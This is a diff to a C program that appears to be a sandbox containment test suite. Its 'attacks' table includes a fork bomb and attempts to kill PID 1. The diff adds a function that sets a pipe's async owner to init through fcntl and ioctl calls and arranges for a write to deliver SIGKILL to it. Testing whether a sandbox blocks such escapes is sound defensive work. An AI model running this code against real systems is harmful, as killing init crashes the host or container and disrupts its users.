@@ -7,6 +7,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/ioctl.h>
 #include <sys/mount.h>
 #include <sys/prctl.h>
 #include <sys/ptrace.h>
@@ -41,6 +42,25 @@ static int trace_init(void) {
     printf(" pidfd %d", fd < 0 ? errno : syscall(438 /* pidfd_getfd */, fd, 4, 0) < 0 ? errno : 0);
     printf(" kill %d\n", kill(1, SIGKILL) ? errno : 0);
     return 0;
+}
+
+/* A descriptor signals its owner when it can be read: with F_SETSIG 9 a SIGKILL to init, with 19 a SIGSTOP. */
+static int signal_init_by_descriptor(void) {
+    struct { int type, pid; } owner = {1 /* F_OWNER_PID */, 1};
+    int ends[2], one = 1, init = 1;
+    if (pipe(ends)) return 1;
+    printf("own %d", fcntl(ends[0], F_SETOWN, 1) ? errno : 0);
+    printf(" group %d", fcntl(ends[0], F_SETOWN, -1) ? errno : 0);
+    printf(" ex %d", fcntl(ends[0], 15 /* F_SETOWN_EX */, &owner) ? errno : 0);
+    printf(" fio %d", ioctl(ends[0], 0x8901 /* FIOSETOWN */, &init) ? errno : 0);
+    printf(" sio %d\n", ioctl(ends[0], 0x8902 /* SIOCSPGRP */, &init) ? errno : 0);
+    fflush(stdout);
+    fcntl(ends[0], F_SETSIG, SIGKILL);
+    fcntl(ends[0], F_SETFL, O_ASYNC);
+    ioctl(ends[0], FIOASYNC, &one);
+    if (write(ends[1], "x", 1) != 1) return 1;
+    usleep(200000);
+    return 9;
 }
 
 /* The way around RLIMIT_NPROC and a tmpfs's size: all capabilities, in a user namespace of one's own. */
@@ -113,7 +133,7 @@ int main(int argc, char **argv) {
         {"count-forks", count_forks},         {"trace-init", trace_init},
         {"make-namespaces", make_namespaces}, {"show-start", show_start},
         {"leave-daemons", leave_daemons},     {"leave-stopped-children", leave_stopped_children},
-        {"bomb", bomb},
+        {"bomb", bomb},                       {"signal-init", signal_init_by_descriptor},
     };
     for (unsigned i = 0; argc > 1 && i < sizeof attacks / sizeof *attacks; i++)
         if (!strcmp(argv[1], attacks[i].name)) return attacks[i].run();
